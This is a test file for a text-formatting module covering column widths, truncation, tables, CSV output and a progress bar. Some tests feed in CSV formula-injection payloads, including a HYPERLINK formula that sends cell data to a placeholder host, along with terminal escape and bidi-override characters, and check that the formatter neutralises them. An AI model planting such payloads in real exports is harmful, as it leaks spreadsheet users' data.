import { expect, test } from 'vitest'
import { cutToWidth, displayWidth, formatTable, formatCsv, progressBar } from './format.ts'

const HEADER = ['Reference', 'Name', 'E-mail']
const ROWS = [
  ['0A1B2C3D', 'Arta', 'arta@host.example'],
  ['9F8E7D6C', 'A very long name indeed that needs a lot of room', 'b@host.example'],
]

test.each([
  ['abc', 3],
  ['山田', 4],
  ['한글', 4],
  ['👩‍💻', 2],
  ['🇽🇰', 2],
  ['☺️', 2],
  ['e\u0301', 1],
  ['ﾊﾝ', 2],
  ['', 0],
])('%s is %i columns wide', (text, width) => {
  expect(displayWidth(text)).toBe(width)
})

test.each([
  ['abcdef', 6, 'abcdef'],
  ['abcdef', 4, 'abc…'],
  ['山田太郎', 6, '山田…'],
  ['山田太郎', 5, '山田…'],
  ['👩‍💻👩‍💻', 3, '👩‍💻…'],
  ['abc', 1, '…'],
  ['abc', 0, ''],
])('%s cut to %i columns is %s', (text, width, cut) => {
  expect(cutToWidth(text, width)).toBe(cut)
})

test('does not cut a table that fits', () => {
  expect(formatTable(HEADER, ROWS)).toBe(
    [
      'Reference  Name                                              E-mail',
      '0A1B2C3D   Arta                                              arta@host.example',
      '9F8E7D6C   A very long name indeed that needs a lot of room  b@host.example',
      '',
    ].join('\n'),
  )
})

test('right-aligns numbers', () => {
  const rows = [
    ['7', 'Arta'],
    ['1200', 'Bora'],
  ]
  expect(formatTable(['Asked', 'Name'], rows, { right: ['Asked'] })).toBe(
    ['Asked  Name', '    7  Arta', ' 1200  Bora', ''].join('\n'),
  )
})

test('shrinks the widest column first', () => {
  expect(formatTable(HEADER, ROWS, { width: 40 })).toBe(
    [
      'Reference  Name            E-mail',
      '0A1B2C3D   Arta            arta@host.ex…',
      '9F8E7D6C   A very long n…  b@host.examp…',
      '',
    ].join('\n'),
  )
})

test('shrinks soft columns before wider ones', () => {
  expect(formatTable(HEADER, ROWS, { width: 70, soft: ['E-mail'] })).toBe(
    [
      'Reference  Name                                              E-mail',
      '0A1B2C3D   Arta                                              arta@hos…',
      '9F8E7D6C   A very long name indeed that needs a lot of room  b@host.e…',
      '',
    ].join('\n'),
  )
  const narrow = formatTable(HEADER, ROWS, { width: 40, soft: ['E-mail'] })
  expect(narrow).toContain('  A very long name i…  b@host.…\n')
})

test.each([80, 40, 30, 20, 9, 1])('no line is wider than %i columns', (width) => {
  const rows = [...ROWS, ['山田'.repeat(20), '👩‍💻'.repeat(20), '한'.repeat(30)]]
  const lines = formatTable(HEADER, rows, { width }).split('\n')
  expect(lines).toHaveLength(5)
  expect(Math.max(...lines.map(displayWidth))).toBeLessThanOrEqual(width)
})

test('escapes line breaks and control characters in cells', () => {
  expect(formatTable(['A'], [['x\ny\u001b[2J']])).toBe('A\nx y\\x1b[2J\n')
})

test('records end with CRLF; quotes, commas and lines are quoted', () => {
  const rows = [['a "b"', 'c,d', 'e\nf', 'plain', 3, null, new Date(0)]]
  expect(formatCsv(['1', '2', '3', '4', '5', '6', '7'], rows)).toBe(
    '1,2,3,4,5,6,7\r\n"a ""b""","c,d","e\nf",plain,3,,1970-01-01T00:00:00.000Z\r\n',
  )
})

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '  =1',
  '\n=1',
  '＝1',
  '\tplain',
  '=HYPERLINK("http://host.example?"&A1)',
])('%j cannot become a formula', (text) => {
  const [, cell = ''] = formatCsv(['h'], [[text]]).split('h\r\n')
  expect(cell.replace(/^"/, '')).toMatch(/^'/)
})

/** Simulates a spreadsheet with another separator, which ignores quotes inside a cell. */
test.each([
  [';', 'a;=1+1'],
  [';', 'a; "=1+1'],
  [';', '";=HYPERLINK("http://host.example?"&A1)'],
  ['\t', 'a\t=1+1'],
  ['\t', 'a\t\t@SUM(A1)'],
  [';', 'first line\n=1+1'],
  [';', 'x;+1;-1;＝1'],
])('split at %j, no cell of %j is a formula', (separator, text) => {
  const file = formatCsv(['name', 'message'], [['Visitor', text]])
  const pieces = file.split(/\r\n|\n/).flatMap((line) => line.split(separator))
  for (const piece of pieces) expect(piece.replace(/^["\s]*/, '')).not.toMatch(/^[=+\-@＝＋－＠]/u)
})

test('quotes semicolons and tabs', () => {
  expect(formatCsv(['h'], [['a;b'], ['a\tb']])).toBe('h\r\n"a;b"\r\n"a\tb"\r\n')
})

test('keeps negative numbers', () => {
  expect(formatCsv(['h'], [[-1]])).toBe('h\r\n-1\r\n')
})

test('escapes control characters in CSV', () => {
  expect(formatCsv(['h'], [['a\u001b[31m\u202e']])).toBe('h\r\na\\x1b[31m\\u202e\r\n')
})

test.each([
  [0, 40, 0, '[........] 0 of 40'],
  [10, 40, 5000, '[##......] 10 of 40, 15 s left'],
  [39, 40, 39_000, '[########] 39 of 40, 1 s left'],
  [40, 40, 40_000, '[########] 40 of 40'],
  [0, 0, 0, '[########] 0 of 0'],
])('%i of %i after %i ms is %s', (done, total, passed, bar) => {
  expect(progressBar(done, total, passed, 8)).toBe(bar)
})
